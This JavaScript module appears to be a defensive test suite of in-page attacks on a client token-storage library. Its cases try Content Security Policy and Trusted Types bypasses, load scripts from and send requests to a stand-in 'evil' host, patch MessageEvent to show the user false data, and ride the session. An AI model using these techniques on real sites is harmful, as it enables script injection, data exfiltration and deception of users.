/** Attacks that get around the page's Content Security Policy, change what the page shows, or use the session. */

export const page = [
  {
    id: 'C-034',
    title: 'Start a worker in spite of Trusted Types',
    inPage: true,
    expects: { localStorage: 'nothing', memory: 'nothing', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'the policy lets only the client choose a script URL; without it, this still gives no token',
    run: async ({ attempt, upload }) => {
      const { trustedTypes } = window;
      const outcomes = {};
      const tries = {
        'a worker by its name': () => new Worker(upload).terminate(),
        'a service worker by its name': async () => (await navigator.serviceWorker.register(upload, { scope: '/nowhere/' })).unregister().then(() => {}),
        'a policy of our own': () => trustedTypes?.createPolicy('evil', { createScriptURL: (url) => url }) && undefined,
        "the client's policy once more": () => trustedTypes?.createPolicy('symbolon', { createScriptURL: (url) => url }) && undefined,
        'the default policy': () => trustedTypes?.createPolicy('default', { createScriptURL: (url) => url }) && undefined,
        'a script element': () => void (document.createElement('script').src = upload),
        markup: () => void (document.createElement('div').innerHTML = '<b>x</b>'),
      };
      for (const [what, act] of Object.entries(tries)) outcomes[what] = await attempt(act);
      return outcomes;
    },
  },
  {
    id: 'C-035',
    title: "Try every way around the page's Content Security Policy",
    inPage: true,
    expects: { localStorage: 'nothing', memory: 'nothing', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'the policy stops each of them; without it the script can do more, but the page has no token',
    run: async ({ attempt, upload, evil, pause }) => {
      const { trustedTypes } = window;
      let policy;
      try {
        policy = trustedTypes?.createPolicy('evil', { createScriptURL: (url) => url, createScript: (text) => text, createHTML: (html) => html });
      } catch {}
      const url = (text) => policy?.createScriptURL(text) ?? text;
      const running = async (script, options) => {
        const worker = new Worker(url(script), options);
        await new Promise((resolve, reject) => Object.assign(worker, { onmessage: resolve, onerror: reject }));
        worker.terminate();
      };
      const ran = async (act) => {
        delete window.ran;
        let isRefused = false;
        addEventListener('securitypolicyviolation', () => (isRefused = true), { once: true });
        await act();
        for (let waited = 0; !window.ran && !isRefused && waited < 2000; waited += 20) await pause(20);
        // A late violation of the try before this one must not end the wait too early.
        if (!window.ran) await pause(150);
        if (!window.ran) throw new Error('it did not run');
      };
      const added = (name, attributes) => document.head.appendChild(Object.assign(document.createElement(name), attributes));
      const speak = "self.postMessage('here'); self.onconnect = ({ ports }) => ports[0].postMessage('here');";
      const tries = {
        'a worker of a blob': () => running(URL.createObjectURL(new Blob([speak]))),
        'a worker of data': () => running(`data:text/javascript,${encodeURIComponent(speak)}`),
        'a worker of a file on our origin': () => running(upload),
        'a shared worker': async () => {
          const { port } = new SharedWorker(url(upload));
          await new Promise((resolve, reject) => ((port.onmessage = resolve), setTimeout(reject, 700)));
        },
        'a service worker': async () => void (await (await navigator.serviceWorker.register(url(upload), { scope: '/nowhere/' })).unregister()),
        'a script inline': () => ran(() => added('script', { text: policy?.createScript('window.ran = 1') ?? 'window.ran = 1' })),
        'a script that says a nonce': () => ran(() => added('script', { nonce: document.querySelector('[nonce]')?.nonce ?? 'guess', text: policy?.createScript('window.ran = 1') ?? 'window.ran = 1' })),
        'a script from elsewhere': () => ran(() => added('script', { src: url(`${evil}/ran.js`) })),
        eval: () => void (0, eval)(policy?.createScript('1') ?? '1'),
        markup: () => void (document.createElement('div').innerHTML = '<b>x</b>'),
        'an address of javascript': () => ran(() => added('a', { href: 'javascript:void(window.ran = 1)' }).click()),
        'a frame of markup': () => ran(() => added('iframe', { srcdoc: '<script>parent.ran = 1</script>' })),
        'a moved base': async () => {
          const base = added('base', { href: `${evil}/` });
          const moved = document.baseURI.startsWith(evil);
          base.remove();
          if (!moved) throw new Error('it is where it was');
        },
        'a connection home': async () => void (await fetch('/api/me')),
        'a connection abroad': async () => void (await fetch(`${evil}/collect`, { mode: 'no-cors' })),
        'an image abroad': () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: () => resolve(), onerror: reject, src: `${evil}/pixel.svg` })),
        'a WebAssembly module': async () => void (await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
      };
      const outcomes = {};
      for (const [what, act] of Object.entries(tries)) {
        const outcome = await attempt(act, 5000);
        outcomes[what] = outcome === 'done' ? 'done' : 'stopped';
      }
      return outcomes;
    },
  },
  {
    id: 'C-036',
    title: 'Look for shared memory and the precise clock that it gives',
    inPage: true,
    expects: { localStorage: 'nothing', memory: 'nothing', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'there is none, and the worker does not share its memory',
    run: async ({ work }) => ({ isolated: crossOriginIsolated, memory: typeof SharedArrayBuffer, said: await work() }),
  },
  {
    id: 'C-037',
    title: 'Show the person false responses',
    inPage: true,
    expects: { localStorage: 'nothing', memory: 'nothing', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'what the page shows contains no token; nothing stops a script from changing it, but the server is not deceived',
    early: true,
    unready: true,
    plant: () => {
      const lie = (value, depth = 0) => {
        if (value instanceof ArrayBuffer) {
          const text = new TextDecoder().decode(value);
          return text.includes('"name":"ann"') ? new TextEncoder().encode(text.replace('"name":"ann"', '"name":"eve"')).buffer : value;
        }
        if (typeof value === 'string') return value.replace('"name":"ann"', '"name":"eve"');
        if (Array.isArray(value)) return value.map((value) => lie(value, depth + 1));
        if (!value || typeof value !== 'object' || depth > 6) return value;
        return Object.fromEntries(Object.entries(value).map(([key, value]) => [key, lie(value, depth + 1)]));
      };
      const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
      Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get() { return lie(data.get.call(this)); } });
    },
    run: async ({ pause, work }) => {
      const name = document.querySelector('#name');
      for (const end = Date.now() + 5000; !name.textContent && Date.now() < end; await pause(20));
      return { name: name.textContent, said: await work() };
    },
  },
  {
    id: 'C-038',
    title: 'Use the session through the page, as the person would',
    inPage: true,
    usesSession: true,
    expects: { localStorage: 'used', memory: 'used', symbolon: 'used', symbolonWithoutPolicy: 'used' },
    why: 'nothing stops it while the page is open; what limits it: asking for the password again, idle timeouts, ending the session, and a strict Content Security Policy',
    run: ({ work }) => work(undefined, 2000),
  },
];
